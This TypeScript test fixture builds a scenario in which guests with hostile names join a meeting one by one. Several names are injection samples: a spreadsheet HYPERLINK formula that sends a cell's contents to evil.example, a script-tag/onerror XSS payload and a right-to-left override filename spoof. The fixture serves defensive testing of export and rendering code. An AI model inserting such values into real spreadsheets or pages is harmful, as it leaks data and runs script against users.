/** People whose names attack whoever shows or exports them: formulas, markup, control characters, sheer length. */
import type { Clock } from '../clock.ts'
import { createRandom } from '../random.ts'
import { createScenario } from '../scenario.ts'
import type { MeetingWish, PersonInPlay, Scenario } from '../scenario.ts'
import { guest, member } from './names.ts'

export const hostileNames: readonly PersonInPlay[] = [
  guest('formula', '=HYPERLINK("http://evil.example/?"&A2;"name")'),
  guest('plus', '+7 900 000 00 00'),
  guest('minus', '-Мария-'),
  guest('at', '@cmd'),
  guest('tab', 'Tab\tand\r\nline break'),
  guest('markup', '</script><img src=x onerror=alert(1)>'),
  guest('override', '\u202Efdp.exe\u202C Игорь'),
  guest('nul', 'Nul\u0000Byte'),
  guest('long', 'Длинное имя '.repeat(834).slice(0, 10_000)),
  guest('emoji', '👩🏽‍🏫 Зоя 🎉'),
  guest('arabic', 'ليلى حداد'),
  guest('hebrew', 'נועה לוי'),
  guest('quotes', '"Quoted", \'single\'; semicolon'),
  guest('combining', 'Z\u0351\u036B\u0343a\u0324l\u0318g\u032Do\u0347'),
  guest('empty', ''),
  guest('spaces', '   '),
]

/** All of them join one after another, a second apart, once the clock moves. */
export function createHostileNames(options: {
  clock: Clock
  seed: number
  startsAtMs: number
  meeting?: MeetingWish
}): Scenario {
  const { clock, startsAtMs } = options
  const scenario = createScenario({
    clock,
    seed: options.seed,
    meeting: { topic: '=1+1 <b>Open lecture</b>', ...options.meeting },
    host: member(createRandom(options.seed, 'hostile names'), 'teacher', 'Елена Карпинская'),
    people: [...hostileNames],
  })
  clock.at(startsAtMs, () => scenario.join('teacher'))
  hostileNames.forEach(({ key }, index) =>
    clock.at(startsAtMs + (index + 1) * 1000, () => scenario.join(key)),
  )
  return scenario
}
